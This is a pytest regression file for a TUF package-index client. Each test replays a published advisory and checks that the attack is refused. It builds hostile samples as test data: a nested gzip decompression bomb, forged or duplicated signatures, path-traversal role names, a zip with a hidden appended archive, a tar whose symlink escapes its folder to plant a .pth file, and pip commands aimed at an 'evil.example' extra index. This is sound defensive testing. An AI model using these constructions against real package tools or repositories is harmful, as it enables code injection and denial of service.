"""What once went wrong in TUF clients, package tools and their libraries, and does not here.

One story for each published advisory, by its number: what happened there, and what ours says.
"""

from __future__ import annotations

import fnmatch
import gzip
import io
import json
import ntpath
import os
import stat
import tarfile
import tracemalloc
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from securesystemslib.signer import CryptoSigner
from tuf.api.metadata import DelegatedRole, Delegations, Key

from indextrust.client import TrustedIndexes, Urllib3Fetcher
from indextrust.errors import (
    BudgetExceededError,
    DistributionError,
    HashMismatchError,
    IndextrustError,
    InputError,
    KeyFileError,
    LengthError,
    MalformedError,
    NotListedError,
    RefusedError,
    RollbackError,
    SignatureError,
    UnsafePathError,
    WrongVersionError,
)
from indextrust.proxy import run_child
from indextrust.repository import read_distribution
from indextrust.repository.keys import generate_key, load_signer
from indextrust.testing import MetadataRepository
from indextrust.trust import NotListed, TargetEntry
from tests.attacks.forging import edited
from tests.attacks.people import Index, Person
from tests.attacks.story import (
    Wire,
    newest,
    one_honest_refresh,
    recover,
    refused,
    stolen_keys_sign,
    verified_before,
)
from tests.client.hostile import raw
from tests.client.pages import SDIST, WHL, listing, sha256
from tests.client.processes import visible
from tests.client.stage import BYTES, NOW, WHEEL, Stage
from tests.support.wheels import core_metadata

EVIL = b"the thief's bytes" * 1000
ALL_ROLES = (*verified_before("bins"), "bins")


def _entry(stage: Stage, path: str) -> TargetEntry:
    entry = stage.client().target(path)
    assert isinstance(entry, TargetEntry)
    return entry


# -- one key counted twice -----------------------------------------------------------------------


def _second_key(stage: Stage, role: str, signer: CryptoSigner) -> None:
    """From now on `role` needs two keys: its own and the one of `signer`."""
    repository = stage.repository
    if role == "bins":
        delegations = repository.targets["targets"].signed.delegations
        assert delegations is not None
        assert delegations.roles is not None
        repository.targets["targets"].signed.add_key(signer.public_key, role)
        delegations.roles[role].threshold = 2
    else:
        repository.root.signed.add_key(signer.public_key, role)
        repository.root.signed.roles[role].threshold = 2
    repository.signers[role].append(signer)
    repository.publish_root()
    stage.publish()
    one_honest_refresh(stage)


@pytest.mark.parametrize("role", ["timestamp", "snapshot", "targets", "bins"])
@pytest.mark.parametrize(
    ("advisory", "error"),
    [
        pytest.param("CVE-2020-6174", MalformedError, id="CVE-2020-6174"),
        pytest.param("CVE-2020-15093", SignatureError, id="CVE-2020-15093"),
        pytest.param("CVE-2026-6966", MalformedError, id="CVE-2026-6966"),
    ],
)
def test_advisory_one_key_is_counted_once(
    stage: Stage, role: str, advisory: str, error: type[RefusedError]
) -> None:
    """CVE-2020-6174 (python-tuf): a signature repeated under its key id counted each time.
    CVE-2020-15093 (tough): the keys behind a threshold were not told apart, so that one key under
    two ids was two. CVE-2026-6966 (tough): the repetition again, in delegated roles.

    Here a role needs two keys, and the thief has one. He repeats its signature, or, where the
    operator let one key in under two ids, signs under both."""
    (thief,) = stage.repository.signers[role]
    assert isinstance(thief, CryptoSigner)
    if advisory == "CVE-2020-15093":
        alias = Key.from_dict("0" * 64, thief.public_key.to_dict())
        other: Any = CryptoSigner.generate_ed25519()
        _second_key(stage, role, other)
        signed: Any = (
            stage.repository.targets["targets"].signed
            if role == "bins"
            else stage.repository.root.signed
        )
        signed.add_key(alias, role)
        stage.repository.publish_root()
        stage.publish()
        one_honest_refresh(stage)
        stage.repository.signers[role] = [
            thief,
            CryptoSigner(thief._private_key, alias),  # type: ignore[arg-type]
        ]
    else:
        other = CryptoSigner.generate_ed25519()
        _second_key(stage, role, other)
        stage.repository.signers[role] = [thief]

    def repeat(file: bytes) -> bytes:
        tree = json.loads(file)
        tree["signatures"] *= 1 if advisory == "CVE-2020-15093" else 2
        return json.dumps(tree, separators=(",", ":")).encode()

    name = stolen_keys_sign(stage, role, envelope=repeat)

    def heal() -> None:
        stage.repository.signers[role] = [thief, other]
        stage.publish()

    with refused(
        stage,
        error,
        match="signs twice" if error is MalformedError else "expected 2 distinct keys; got 1 ",
        stored=verified_before(role),
        last=name,
        heal=heal,
    ):
        stage.client().target(WHEEL)


# -- a threshold of nobody -----------------------------------------------------------------------


@pytest.mark.parametrize("threshold", [0, -1, -(10**9), False, None, "1"])
@pytest.mark.parametrize("role", ["root", "targets"])
def test_advisory_cve_2026_23992_a_threshold_below_one_is_no_threshold(
    stage: Stage, role: str, threshold: object
) -> None:
    """go-tuf compared the number of signatures with the threshold as it stood: with 0 or less,
    unsigned metadata was signed by enough. Here whoever writes such a threshold, for the
    timestamp in root or for a delegated role in targets, has written no metadata."""

    def disable(signed: Any) -> None:
        roles = signed["roles"] if role == "root" else signed["delegations"]["roles"]
        entry = roles["timestamp"] if role == "root" else roles[0]
        entry["threshold"] = threshold

    name = stolen_keys_sign(stage, role, edited(disable))
    with refused(
        stage,
        MalformedError,
        match="threshold",
        stored=verified_before(role),
        last=name,
        heal=lambda: recover(stage),
    ):
        stage.client().target(WHEEL)


# -- the chain of roots --------------------------------------------------------------------------


def test_advisory_cve_2020_15163_a_root_that_failed_is_not_found_again(stage: Stage) -> None:
    """Python-tuf stored a root before it had verified it, and after a failure trusted it from its
    own disk. Here the network serves a good root 2 and a root 3 that nobody signed: root 2 stays,
    root 3 leaves no byte, and the next run, to which the network says that there is no root 3,
    is at root 2."""
    stage.repository.publish_root()
    stage.publish()
    tree = json.loads(stage.repository.files["2.root.json"])
    tree["signed"]["version"] = 3
    tree["signatures"] = []
    stage.server.tamper("metadata/3.root.json", json.dumps(tree).encode())
    with refused(stage, SignatureError, match="root", stored=("root",), last="3.root.json"):
        stage.client().refresh()
    assert visible(stage.folder / "cache" / "root_history") == {"1.root.json", "2.root.json"}
    stage.server.tamper("metadata/3.root.json", 404)
    assert stage.client().refresh().root_version == 2


@pytest.mark.parametrize("version", [1, 3, 9])
def test_advisory_cve_2025_2885_roots_come_one_after_the_other(stage: Stage, version: int) -> None:
    """Tough didn't check that the next root's version is the next: an old root, or one from the
    future, with keys long replaced, was taken. Here the file called ``2.root.json`` has another
    version, and all signatures it needs."""
    stolen_keys_sign(stage, "root", edited(lambda signed: signed.update(version=version)))
    with refused(
        stage,
        WrongVersionError,
        match=f"expected 2; got {version}",
        last="2.root.json",
        heal=lambda: recover(stage),
    ):
        stage.client().refresh()


# -- rollback, and what is stored when -----------------------------------------------------------


def test_advisory_cve_2022_29173_every_role_is_compared_with_what_is_stored(stage: Stage) -> None:
    """go-tuf compared only root with what an earlier run had stored; all other roles could go
    back. Here the network replays yesterday's whole set to a new process."""
    old = {name: data for name, data in stage.repository.files.items() if "root" not in name}
    stage.publish()
    one_honest_refresh(stage)
    for name, data in old.items():
        stage.server.tamper(f"metadata/{name}", data)
    with refused(stage, RollbackError, match="expected >= 2; got 1", last="timestamp.json"):
        stage.client().refresh()


def test_advisory_cve_2025_2887_delegated_roles_are_compared_as_well(stage: Stage) -> None:
    """Tough compared the versions of the top-level targets in the snapshot, and not those of
    delegated roles. Here the snapshot's thief lists the old bin again."""
    stage.publish()
    one_honest_refresh(stage)
    name = stolen_keys_sign(
        stage, "snapshot", edited(lambda signed: signed["meta"]["bins.json"].update(version=1))
    )
    with refused(
        stage,
        RollbackError,
        match=r"bins\.json: older than before; expected >= 2; got 1",
        stored=("timestamp",),
        last=name,
        heal=stage.publish,
    ):
        stage.client().target(WHEEL)


def test_advisory_cve_2025_2888_a_refused_timestamp_is_not_stored(stage: Stage) -> None:
    """Tough stored a timestamp before it compared the snapshot's version in it. The refused file
    then stood in the cache, and no honest one was good enough any more. Here a timestamp from
    the far future lists the old snapshot: it is refused and not stored, and the honest one, of a
    lower version, is taken."""
    stage.publish()
    one_honest_refresh(stage)

    def roll_back(signed: Any) -> None:
        signed["version"] = 2**31
        signed["meta"]["snapshot.json"] = {"version": 1}

    stolen_keys_sign(stage, "timestamp", edited(roll_back))
    with refused(
        stage,
        RollbackError,
        match=r"snapshot\.json: older than before",
        last="timestamp.json",
        heal=stage.publish,
    ):
        stage.client().refresh()


# -- delegations: order, end, case, keys ---------------------------------------------------------


def test_advisory_cve_2024_47534_delegations_are_asked_in_their_order(stage: Stage) -> None:
    """go-tuf went through delegations in the order of a hash map, another one each time, so that
    a later, less trusted role could answer. Here the first role in the list answers always,
    whatever the order of names, of files or of arrival."""
    names = ["z", "a", "m", "B", "0", "b"]
    for number, name in enumerate(names):
        stage.repository.delegate("targets", name, ["shared/*"], terminating=False)
        stage.repository.add_target("shared/x", b"%d" % number, role=name)
    stage.publish()
    for _ in range(8):
        entry = _entry(stage, "shared/x")
        assert (entry.role, entry.hashes) == ("z", {"sha256": sha256(b"0")})
    asked = [path for path in stage.requests() if path.endswith("1.z.json")]
    assert asked == ["metadata/1.z.json"], "no other role was asked"
    del stage.repository.targets["z"].signed.targets["shared/x"]
    stage.publish()
    assert _entry(stage, "shared/x").role == "a"
    one_honest_refresh(stage)


def test_advisory_cve_2025_2886_a_terminating_delegation_ends_the_search(stage: Stage) -> None:
    """Tough went on past a terminating delegation, and took from a role of lower rank what should
    have been "no such target". Here the first role terminates and lists nothing; the thief of the
    second one's key lists his bytes and is not asked."""
    stage.repository.delegate("targets", "first", ["shared/*"], terminating=True)
    stage.repository.delegate("targets", "second", ["shared/*"], terminating=True)
    stage.repository.add_target("shared/x", EVIL, role="second")
    stage.publish()
    assert stage.client().target("shared/x") == NotListed("shared/x", 2)
    assert stage.requests()[-1] == "metadata/1.first.json"
    assert "second.json" not in stage.stored()
    one_honest_refresh(stage)


def test_advisory_ghsa_qp9x_wp8f_qgjj_patterns_know_case_on_every_system(
    stage: Stage, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Python-tuf matched paths as the operating system does: on Windows, a delegation of
    ``Shared/*`` got ``shared/x``. Here Windows' own folding is in force (what python-tuf called
    says that they match), and the role for the other case is not asked."""
    stage.repository.delegate("targets", "thief", ["SHARED/*", "Shared/*"], terminating=True)
    stage.repository.delegate("targets", "right", ["shared/*"], terminating=True)
    for name, data in (("thief", EVIL), ("right", BYTES)):
        stage.repository.add_target("shared/x", data, role=name)
    stage.publish()
    monkeypatch.setattr(os.path, "normcase", ntpath.normcase)
    assert fnmatch.fnmatch("shared/x", "SHARED/*")
    assert _entry(stage, "shared/x").role == "right"
    assert "thief.json" not in stage.stored()
    one_honest_refresh(stage)


def test_advisory_python_tuf_2977_a_shared_role_needs_the_keys_of_each_delegator(
    stage: Stage,
) -> None:
    """Python-tuf verified a role that two others delegate to with the keys of the one through
    which it came first, and took it for verified when it came through the other. Here the role is
    signed with the key that ``a`` names; through ``b`` it is refused, in the same client."""
    repository = stage.repository
    for name in ("a", "b"):
        repository.delegate("targets", name, [f"{name}/*"], terminating=True)
    repository.delegate("a", "shared", ["*/*"], terminating=True)
    for path in ("a/x", "b/x"):
        repository.add_target(path, BYTES, role="shared")
    honest = repository.signers["shared"]
    other = CryptoSigner.generate_ed25519()
    b = repository.targets["b"].signed
    b.delegations = Delegations({}, {"shared": DelegatedRole("shared", [], 1, True, ["*/*"])})
    b.add_key(other.public_key, "shared")
    stage.publish()
    client = stage.client()
    assert isinstance(client.target("a/x"), TargetEntry)

    def heal() -> None:
        repository.signers["shared"] = [*honest, other]
        stage.publish()

    with refused(
        stage,
        SignatureError,
        match="not signed by enough keys of b",
        stored=("b",),
        last="1.shared.json",
        heal=heal,
    ):
        client.target("b/x")
    for path in ("a/x", "b/x"):
        assert _entry(stage, path).role == "shared"


# -- paths ---------------------------------------------------------------------------------------


def test_advisory_cve_2021_41131_a_role_name_is_one_file_name(stage: Stage, wire: Wire) -> None:
    """Python-tuf made a file's path of a role's name, so that a role called ``../../x`` was
    written outside the cache. Here the name is encoded into one file name."""
    role = "../../uploaded"
    stage.repository.delegate("targets", role, ["odd/*"], terminating=True)
    stage.repository.add_target("odd/x", BYTES, role=role)
    stage.publish()
    data = stage.repository.files["1...%2F..%2Fuploaded.json"]
    stage.server.tamper("metadata/1.../../uploaded.json", data)
    before = visible(stage.folder)
    assert isinstance(wire.client().target("odd/x"), TargetEntry)
    assert visible(stage.folder) - before == {"cache/..%2F..%2Fuploaded.json"}
    assert wire.requests[-1] == "GET /metadata/1...%2F..%2Fuploaded.json HTTP/1.1"
    one_honest_refresh(stage)


def test_advisory_cve_2026_6968_a_target_is_written_where_it_was_told(stage: Stage) -> None:
    """Tough joined a target's name to the output folder: an absolute name left it, and a link
    that lay there was followed. Here an absolute path is refused unasked, and a link in the
    download folder is replaced; what it pointed to is untouched."""
    index = Index(stage)
    person = Person(index)
    victim = stage.folder / "victim"
    victim.write_bytes(b"precious")
    (person.downloads / WHL).symlink_to(victim)
    person.gets_the_honest_files()
    assert victim.read_bytes() == b"precious"
    assert not (person.downloads / WHL).is_symlink()
    with refused(
        stage, UnsafePathError, match="unsafe", last=None, honest=person.gets_the_honest_files
    ):
        stage.client().target(f"{stage.folder}/victim")


@pytest.mark.parametrize(
    "name", ["../evil", "/evil", "a/b", "..", ".", "", "a\\b", "Con\0", "a" * 65]
)
def test_advisory_cve_2026_24686_an_index_name_is_no_path(stage: Stage, name: str) -> None:
    """go-tuf made a folder's path of a repository's name in a map file, unchecked: the trusted
    root of one landed anywhere. Here a name has a few harmless characters, or is refused before
    anything is written or asked."""
    indexes = TrustedIndexes(
        stage.folder / "home", fetcher=Urllib3Fetcher(seconds=20), clock=lambda: NOW
    )
    before = visible(stage.folder)
    root = stage.repository.files["1.root.json"]
    with pytest.raises(InputError, match="index name"):
        indexes.add(name, stage.server.url, root)
    assert visible(stage.folder) == before
    assert stage.requests() == []
    indexes.add("evil", stage.server.url, root)
    assert indexes.client().refresh().root_version == 1


# -- parsers -------------------------------------------------------------------------------------


@pytest.mark.parametrize("role", ["root", "timestamp", "snapshot", "targets", "bins"])
@pytest.mark.parametrize(
    "body",
    [b"", b"null", b"[]", b"{}", b'"x"', b"0", b'{"signed":null,"signatures":null}',
     b'{"signed":{},"signatures":[]}', b'{"signatures":[{}],"signed":{"_type":"root"}}',
     b'{"signatures":[null],"signed":{}}', b'{"signatures":{},"signed":[]}', b"\xff\xfe{"],
)  # fmt: skip
def test_advisory_cve_2026_23991_malformed_answers_are_refused_not_fatal(
    stage: Stage, role: str, body: bytes
) -> None:
    """go-tuf fell over metadata with missing parts: whoever sat on the network could end the
    process. Here it is a refusal like any other, for each role."""
    if role == "root":
        stage.repository.publish_root()
    stage.publish()
    name = newest(stage, role)
    stage.server.tamper(f"metadata/{name}", body)
    client = stage.client()
    error: type[IndextrustError] = MalformedError
    if role in ("snapshot", "targets", "bins"):
        error = LengthError  # what vouches for it says how long it is
    elif body == b'{"signed":{},"signatures":[]}':
        error = SignatureError
    with refused(stage, error, match=".", stored=verified_before(role), last=name):
        client.target(WHEEL)


@pytest.mark.parametrize("depth", [33, 100, 1_000, 5_000, 16_000])
@pytest.mark.parametrize("opening", [b"[", b'{"a":', b'[{"a":'])
def test_advisory_x41_tuf_cr_22_03_deep_nesting_is_refused_unparsed(
    stage: Stage, depth: int, opening: bytes
) -> None:
    """Python-tuf's parser recursed once for each level and raised an error of the interpreter's
    (RecursionError) on a few kilobytes of brackets. Here depth is counted before anything is
    parsed."""
    body = (opening * depth)[:16_384]
    stage.server.tamper("metadata/timestamp.json", body)
    with refused(stage, MalformedError, match="nested too deep", last="timestamp.json"):
        stage.client().refresh()


# -- HTTP ----------------------------------------------------------------------------------------

BOMB = gzip.compress(gzip.compress(b"\0" * 100_000_000, 9), 9)
"""A hundred megabytes in a few hundred bytes."""


def _peak(action: Callable[[], object]) -> int:
    """The most bytes that Python held at once during `action`, beyond what it held before."""
    tracemalloc.start()
    try:
        action()
    finally:
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    return peak


@pytest.mark.parametrize("coding", ["gzip", "gzip, gzip", "deflate", "br", "zstd", "x-gzip"])
def test_advisory_cve_2025_66471_nothing_is_decompressed_that_was_not_asked_for(
    stage: Stage, wire: Wire, coding: str
) -> None:
    """urllib3 undid a content encoding as far as one read asked for a byte, and a small answer
    filled the memory. Here no coding is asked for, and an answer in one is refused undecoded."""
    head = f"HTTP/1.1 200 OK\r\nContent-Encoding: {coding}\r\nContent-Length: {len(BOMB)}\r\n\r\n"
    wire.lies["metadata/timestamp.json"] = raw(head.encode() + BOMB)
    client = wire.client()

    def attacked() -> None:
        with refused(stage, MalformedError, match="Content-Encoding", last="timestamp.json"):
            client.refresh()

    assert _peak(attacked) < 10_000_000


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
def test_advisory_cve_2026_21441_a_redirects_body_is_not_decompressed(
    stage: Stage, wire: Wire, status: int
) -> None:
    """urllib3 read a redirect's body to its end, decompressed, before it followed it: that was
    where the bomb lay. Here the body is left alone, and the redirect, within the origin, is
    followed."""
    stage.publish()
    stage.server.tamper("elsewhere.json", stage.repository.files["timestamp.json"])
    head = (
        f"HTTP/1.1 {status} Moved\r\nLocation: /elsewhere.json\r\nContent-Encoding: gzip\r\n"
        f"Content-Length: {len(BOMB)}\r\n\r\n"
    )
    wire.lies["metadata/timestamp.json"] = raw(head.encode() + BOMB)
    client = wire.client()
    assert _peak(client.refresh) < 10_000_000
    assert "elsewhere.json" in stage.requests()
    one_honest_refresh(stage)


# -- no entry is no success ----------------------------------------------------------------------


def test_advisory_cve_2026_42501_no_entry_is_never_success(stage: Stage) -> None:
    """The go command asked a checksum database about a module and took an answer without an entry
    for a match. Here a file that nobody vouches for is "not listed": a local one is not verified,
    core metadata that is no target and not what the page lists is refused, an answer that could
    not be completed is no answer."""
    index = Index(stage)
    person = Person(index)
    person.gets_the_honest_files()
    stray = person.downloads / "demo-9.9-py3-none-any.whl"
    stray.write_bytes(index.evil)
    index.publish()
    with person.refuses(NotListedError, match="not listed in snapshot", last=index.page_request()):
        person.client().verify(stray)
    entry = {**listing(WHL, index.wheel), "core-metadata": {"sha256": "0" * 64}}
    index.publish_entries(entry)
    client = person.client()
    listed = client.file(WHL)
    beside = f"files/demo/{WHL}.metadata"
    stage.server.tamper(beside, index.evil)
    with person.refuses(HashMismatchError, match="wrong sha256", last=beside, stored=()):
        client.metadata(listed)


def test_advisory_cve_2026_42501_running_out_of_roles_is_no_answer(stage: Stage) -> None:
    """The same from the other side: a thief hides a target behind more roles than one lookup may
    ask, in the hope of a "no such target"."""
    for number in range(40):
        stage.repository.delegate("targets", f"r{number}", ["deep/*"], terminating=False)
    stage.repository.add_target("deep/x", BYTES, role="r39")
    stage.publish()
    asked = tuple(f"r{number}" for number in range(32))
    with refused(
        stage,
        BudgetExceededError,
        match="more than 32 delegated roles",
        stored=(*verified_before("bins"), *asked),
        last="1.r31.json",
    ):
        stage.client().target("deep/x")


# -- the cache is no anchor ----------------------------------------------------------------------


def test_advisory_tob_sigstore_10_the_cache_is_no_trust_anchor(stage: Stage) -> None:
    """Sigstore's client began with the root that lay in its cache, if there was one: whoever
    wrote the cache once was trusted for ever. Here another repository's whole cache, validly
    signed in itself, is put in the place of ours, and its metadata is served as well: refused. An
    honest server, and the cache is ours again."""
    foreign = MetadataRepository(now=NOW)
    foreign.delegate("targets", "bins", ["files/*/*"], terminating=True)
    foreign.add_target(WHEEL, EVIL, role="bins")
    foreign.publish_root()
    foreign.publish()
    cache = stage.folder / "cache"
    for role in ("timestamp", "snapshot", "targets", "bins"):
        name = "timestamp.json" if role == "timestamp" else f"1.{role}.json"
        (cache / f"{role}.json").write_bytes(foreign.files[name])
    (cache / "root.json").write_bytes(foreign.files["2.root.json"])
    for version in (1, 2):
        name = f"{version}.root.json"
        (cache / "root_history" / name).write_bytes(foreign.files[name])
    for name, data in foreign.files.items():
        stage.server.tamper(f"metadata/{name}", data)
    with pytest.raises(SignatureError):
        stage.client().target(WHEEL)
    assert stage.requests()[-1] == "metadata/2.root.json"
    stage.server.be_honest()
    one_honest_refresh(stage)


# -- key files -----------------------------------------------------------------------------------


@pytest.mark.parametrize("umask", [0o000, 0o002, 0o022])
def test_advisory_x41_tuf_cr_22_01_private_keys_are_their_owners_alone(
    tmp_path: Path, umask: int
) -> None:
    """securesystemslib wrote private keys with whatever rights the process gives to files:
    everybody could read them. Here a key file has mode 0600 under any umask, and one that others
    may read is not used."""
    path = tmp_path / "ann.pem"
    before = os.umask(umask)
    try:
        generate_key(path, "a passphrase")
    finally:
        os.umask(before)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    path.chmod(0o644)
    with pytest.raises(KeyFileError, match="expected mode 0600, got 0644"):
        load_signer(path, "a passphrase")
    path.chmod(0o600)
    assert load_signer(path, "a passphrase").public_key.keytype == "ed25519"


# -- archives and other indexes ------------------------------------------------------------------


def _with_a_hidden_twin(wheel: bytes) -> bytes:
    """A second archive appended: the end that a reader believes decides what it sees."""
    second = io.BytesIO()
    with zipfile.ZipFile(second, "w") as archive:
        archive.writestr("demo.py", b"import evil")
    return wheel + second.getvalue()


def _with_a_link_that_leads_out(_: bytes) -> bytes:
    """A link to the folder above, and a file through it."""
    plain = io.BytesIO()
    with tarfile.open(fileobj=plain, mode="w") as archive:
        for name, data in {
            "demo-1.0/PKG-INFO": core_metadata("demo", "1.0"),
            "demo-1.0/out": None,
            "demo-1.0/out/evil.pth": b"import evil",
        }.items():
            member = tarfile.TarInfo(name)
            if data is None:
                member.type, member.linkname = tarfile.SYMTYPE, "../../.."
            else:
                member.size = len(data)
            archive.addfile(member, None if data is None else io.BytesIO(data))
    return gzip.compress(plain.getvalue())


@pytest.mark.parametrize(
    ("filename", "forge"),
    [
        pytest.param(WHL, _with_a_hidden_twin, id="CVE-2025-54368"),
        pytest.param(SDIST, _with_a_link_that_leads_out, id="CVE-2025-8869"),
    ],
)
def test_advisory_an_archive_that_is_read_in_two_ways_is_not_published(
    stage: Stage, filename: str, forge: Callable[[bytes], bytes]
) -> None:
    """CVE-2025-54368 (uv): a wheel whose zip structures tell two stories was unpacked as one and
    inspected as the other. CVE-2025-8869 (pip): a link in an sdist led outside the folder into
    which it was unpacked. Clients of ours unpack nothing; such a file does not get as far as
    being signed."""
    index = Index(stage)
    path = stage.folder / filename
    path.write_bytes(index.files[filename])
    assert read_distribution(path, upload_time="2026-01-01T00:00:00Z")[0].filename == filename
    path.write_bytes(forge(index.files[filename]))
    with pytest.raises(DistributionError):
        read_distribution(path, upload_time="2026-01-01T00:00:00Z")


@pytest.mark.parametrize(
    "words",
    ["--extra-index-url {url} demo", "--extra-index-url={url} demo", "--extra-index {url} demo",
     "-i {url} demo", "-f {url} demo", "demo@{url}demo-9.9-py3-none-any.whl"],
)  # fmt: skip
def test_advisory_cve_2018_20225_no_second_index_beside_the_verified_one(
    stage: Stage, words: str
) -> None:
    """pip takes the highest version from any index it is given, so that whoever publishes a
    private project's name on a public index is installed. Here the command is refused, by the
    option's name, before anything runs or is asked."""
    person = Person(Index(stage))
    stage.requests()
    argv = ["pip", "install", *words.format(url="http://evil.example/simple/").split(" ")]
    with pytest.raises(InputError, match=r"extra-index|-i|-f|evil\.example"):
        run_child(person.client(), argv)
    assert stage.requests() == []
    person.gets_the_honest_files()
